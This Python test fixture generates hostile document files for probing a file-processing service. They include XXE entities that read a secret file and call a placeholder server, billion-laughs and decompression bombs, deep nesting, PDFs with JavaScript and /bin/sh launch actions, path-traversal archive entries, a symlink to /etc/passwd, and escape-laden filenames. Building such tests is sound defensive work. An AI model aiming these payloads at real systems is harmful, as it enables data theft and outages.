"""Files that are built to harm whoever reads them, by the name they are submitted under."""

from __future__ import annotations

import io
import shutil
import subprocess
import tarfile
import zipfile
import zlib
from pathlib import Path

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
LAUGHS = "".join(
    f'<!ENTITY l{level} "{f"&l{level - 1};" * 10 if level else "ha" * 50}">' for level in range(12)
)
MARK = b"\x89PNG\r\n\x1a\n"


def zipped(parts: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return stream.getvalue()


def word(document: bytes) -> bytes:
    links = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        b'Target="word/document.xml"/></Relationships>'
    )
    types = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    return zipped({"[Content_Types].xml": types, "_rels/.rels": links, "word/document.xml": document})


def pdf(
    content: bytes, *, catalog: bytes = b"", pages: bytes = b"/Kids [3 0 R] /Count 1", filters: bytes = b""
) -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages " + pages + b" >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>",
        b"<< " + filters + b" /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 6\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out) + b"trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % start


def hostile_files(address: str, secret: Path) -> dict[str, bytes]:
    """All of them; `address` is a server that nobody may ask, `secret` a file that nobody may read."""
    outside = f'<!DOCTYPE d [<!ENTITY x SYSTEM "{address}/entity"><!ENTITY y SYSTEM "{secret.as_uri()}">]>'
    laughing = f"<!DOCTYPE d [{LAUGHS}]>"
    body = f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>'
    flat = f'<office:document xmlns:office="{OFFICE}" office:mimetype="application/vnd.oasis.opendocument.text">%s</office:document>'
    script = f"/OpenAction << /S /JavaScript /JS (app.launchURL('{address}/script', true);) >>"
    launch = f"/OpenAction << /S /URI /URI ({address}/open) >> /AA << /WC << /S /Launch /F (/bin/sh) >> >>"
    page = f'<html><head><meta http-equiv=refresh content="0;url={address}/refresh"><link rel=stylesheet href="{address}/css">'
    words = b"BT /F 9 Tf 50 700 Td (report) Tj ET "
    return {
        "xml-laughs.docx": word((laughing + body % "&l11;").encode()),
        "xml-outside.docx": word((outside + body % "&x;&y;").encode()),
        "xml-laughs.fodt": (laughing + flat % "&l11;").encode(),
        "xml-outside.fodt": (outside + flat % "&x;&y;").encode(),
        "xml-laughs.html": f"<?xml version='1.0'?>{laughing}<html><body>&l11;</body></html>".encode(),
        "swollen.docx": word(body.encode() % (b"0" * (500 << 20))),
        "swollen.odt": zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": bytes(300 << 20)}),
        "swollen.zip": zipped({"a.txt": bytes(300 << 20), "b.docx": bytes(300 << 20)}),
        "swollen.pdf": pdf(zlib.compress(b" " * (400 << 20), 9), filters=b"/Filter /FlateDecode"),
        "twice-packed.zip": zipped({"c.zip": zipped({"d.zip": zipped({"e.zip": zipped({"f.zip": zipped({"g.txt": b"g"})})})})}),
        "deep.html": b"<html><body>" + b"<div>" * 100_000 + b"report",
        "deep-tables.html": b"<html><body>" + b"<table><tr><td>" * 100_000 + b"report",
        "deep.rtf": b"{\\rtf1" + b"{" * 100_000 + b"report" + b"}" * 100_001,
        "deep.docx": word(f'<w:document xmlns:w="{W}">'.encode() + b"<w:body>" * 100_000),
        "rules.pdf": pdf(zlib.compress(words + b"10 10 m 500 10 l S " * 1_000_000), filters=b"/Filter /FlateDecode"),
        "pages.pdf": pdf(words, pages=b"/Kids [" + b"3 0 R " * 100_000 + b"] /Count 100000"),
        "counted.pdf": pdf(words, pages=b"/Kids [3 0 R] /Count 2000000000"),
        "circle.pdf": pdf(words, pages=b"/Kids [2 0 R 3 0 R 2 0 R] /Parent 2 0 R /Count 3"),
        "script.pdf": pdf(words, catalog=script.encode()),
        "launch.pdf": pdf(words, catalog=launch.encode()),
        "fetch.html": f'{page}<script src="{address}/js"></script></head><body><img src="{address}/img"><iframe src="{address}/f"></iframe>字</body></html>'.encode(),
        "binary.rtf": b"{\\rtf1{\\pict\\bin2147483647 abc}}",
        "program.pdf": b"MZ" + bytes(5000),
        "picture.docx": MARK + bytes(5000),
        "archive.html": zipped({"a.txt": b"a"}),
        "packed.doc": zlib.compress(b"a" * 10**6),
        "nothing.docx": b"",
        "zeros.pdf": bytes(10**6),
        "sheet.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 5000,
        "ways-up.zip": zipped({"../../up.txt": b"x", "/etc/up.txt": b"x", "..\\..\\up.docx": b"x", "C:\\up.txt": b"x"}),
        "ways-up.tar": _tar({"../../up.txt": b"x", "/up.txt": b"x"}),
        "line\nbreak\r.html": b"<html>no report</html>",
        "red\x1b[31m\x1b]0;owned\x07\x1b[2J.html": b"<html>no report</html>",
        "turned\u202elmth.html": b"<html>no report</html>",
        "[bold]markup[/bold]:100:.html": b"<html>no report</html>",
    }  # fmt: skip


def _tar(parts: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for name, data in parts.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        for kind, name in ((tarfile.SYMTYPE, "link.txt"), (tarfile.FIFOTYPE, "pipe.txt")):
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, "/etc/passwd"
            archive.addfile(info)
    return stream.getvalue()


def encrypted(folder: Path) -> bytes | None:
    """A PDF under a password; None where qpdf is not installed."""
    if shutil.which("qpdf") is None:
        return None
    plain, locked = folder / "plain.pdf", folder / "locked.pdf"
    plain.write_bytes(pdf(b"BT /F 9 Tf 50 700 Td (report) Tj ET"))
    command = ["qpdf", "--encrypt", "secret", "owner", "256", "--", str(plain), str(locked)]
    subprocess.run(command, check=True, capture_output=True, timeout=60)
    return locked.read_bytes()
